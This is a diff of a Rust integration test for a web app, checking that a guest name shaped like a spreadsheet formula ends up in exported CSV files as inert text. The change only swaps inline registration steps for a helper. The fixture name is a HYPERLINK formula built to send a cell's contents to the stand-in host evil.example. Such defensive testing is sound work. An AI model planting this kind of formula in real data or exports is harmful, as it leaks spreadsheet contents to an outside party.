@@ -142,14 +142,9 @@ async fn a_guest_named_like_a_formula_reaches_the_studios_csv_files_as_inert_tex
     let event_id = &event["/events/".len()..];
     let name = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
     let mut guest = Visitor::new(&app.base_url);
-    guest.get(&format!("/register?event={event_id}")).await;
-    let fields = [
-        ("name", name),
-        ("email", "mallory@example.com"),
-        ("password", "knitting123"),
-        ("event", event_id),
-    ];
-    let registered = guest.post("/register", &fields).await;
+    let registered = app
+        .register_guest(&mut guest, Some(event_id), name, "mallory@example.com", "knitting123")
+        .await;
     assert_eq!(registered.status, StatusCode::SEE_OTHER, "{}", registered.body);
 
     let said = app.sync(library.path()).await;
